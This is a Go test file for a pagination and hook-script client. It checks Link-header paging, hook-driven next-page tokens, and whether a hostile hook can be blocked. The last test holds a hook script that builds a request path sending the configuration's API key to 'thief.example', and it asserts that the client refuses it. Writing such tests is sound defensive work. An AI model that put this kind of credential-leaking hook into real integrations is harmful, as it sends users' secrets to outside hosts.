package provider_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"testing"
	"time"

	"turnstone"
	"turnstone/internal/element"
	"turnstone/internal/provider"
	"turnstone/internal/script"
)

// paged reads a list of one page after the other, and returns the queries that were
// asked.
func paged(t *testing.T, client *provider.Client, p *element.Paginator, r element.Requester, in turnstone.Instance) []string {
	t.Helper()
	el := &element.Element{Key: "acme", Authenticator: element.Authenticator{Type: "NoAuth"}}
	var asked []string
	for page := (provider.Page{}); len(asked) < 10; {
		call := provider.Call{Element: el, Instance: in, Requester: r}
		page.Ask(p, 2, &call)
		answer, err := client.Do(t.Context(), call)
		if err != nil {
			t.Fatal(err)
		}
		asked = append(asked, answer.URL[len(in.Configuration["base.url"]):])
		next, more, err := page.After(p, provider.Listed{Answer: answer, Records: 2, Size: 2})
		if err != nil {
			t.Fatal(err)
		}
		if !more {
			return asked
		}
		page = next
	}
	t.Fatal("the list has no end")
	return nil
}

// served is an instance of a vendor that answers so.
func served(t *testing.T, answer http.HandlerFunc) turnstone.Instance {
	t.Helper()
	server := httptest.NewServer(answer)
	t.Cleanup(server.Close)
	return turnstone.Instance{ID: 7, Configuration: turnstone.Configuration{"base.url": server.URL, "api.key": "k"}}
}

func TestTheLinkHeaderLeadsToTheNextPage(t *testing.T) {
	links := map[string]string{
		"":       `<https://elsewhere.example/items?cursor=b>; rel="next", </items?cursor=z>; rel=last`,
		"b":      `</items?cursor=a>; rel="prev first",</items?cursor=c,1>; title="a, b"; REL="foo next"`,
		"c,1":    `</items?cursor=a>; rel="prev"`,
		"broken": `<`,
	}
	in := served(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Link", links[r.URL.Query().Get("cursor")])
		fmt.Fprint(w, `[1,2]`)
	})
	client := &provider.Client{HTTP: http.DefaultClient, Now: time.Now}
	requester := element.Requester{URLBase: []element.Template{template(t, "{{ config['base.url'] }}")}, Path: template(t, "/items")}
	got := paged(t, client, &element.Paginator{Type: "LinkHeader", NextHost: "base"}, requester, in)
	if want := "[/items /items?cursor=b /items?cursor=c,1]"; fmt.Sprint(got) != want {
		t.Errorf("asked for %v, want %v", got, want)
	}
}

func TestAHookNamesTheNextPage(t *testing.T) {
	in := served(t, func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `{"at":%q}`, r.URL.Query().Get("at"))
	})
	requester := element.Requester{
		URLBase: []element.Template{template(t, "{{ config['base.url'] }}")}, Path: template(t, "/items"),
		Hooks: &element.Hooks{
			Before: []element.Hook{{Script: `if (request_parameters.nextPage) done({request_vendor_parameters: {at: CE.decode64(request_parameters.nextPage)}}); else done();`}},
			After:  []element.Hook{{Script: `var at = Number(response_body.at); if (at < 2) done({response_headers: {'elements-next-page-token': CE.b64(String(at + 1))}}); else done();`}},
		},
	}
	client := &provider.Client{HTTP: http.DefaultClient, Now: time.Now, Scripts: script.New(time.Now)}
	if got := paged(t, client, nil, requester, in); fmt.Sprint(got) != "[/items /items?at=1 /items?at=2]" {
		t.Errorf("asked for %v, want three pages", got)
	}
}

func TestAHookCannotLeadACredentialAstray(t *testing.T) {
	in := served(t, func(http.ResponseWriter, *http.Request) { t.Error("the vendor was asked") })
	requester := element.Requester{
		URLBase: []element.Template{template(t, "{{ config['base.url'] }}")}, Path: template(t, "/items"),
		Hooks: &element.Hooks{Before: []element.Hook{{Script: `done({request_vendor_path: 'https://thief.example/' + configuration['api.key']});`}}},
	}
	el := &element.Element{Key: "acme", Authenticator: element.Authenticator{Type: "NoAuth"}}
	client := &provider.Client{HTTP: http.DefaultClient, Now: time.Now, Scripts: script.New(time.Now)}
	_, err := client.Do(t.Context(), provider.Call{Element: el, Instance: in, Requester: requester})
	if err == nil {
		t.Error("Do = nil, want a refusal")
	}
	client.Scripts = nil
	if _, err := client.Do(t.Context(), provider.Call{Element: el, Instance: in, Requester: requester}); err == nil {
		t.Error("Do without anything to run hooks = nil, want a refusal")
	}
}
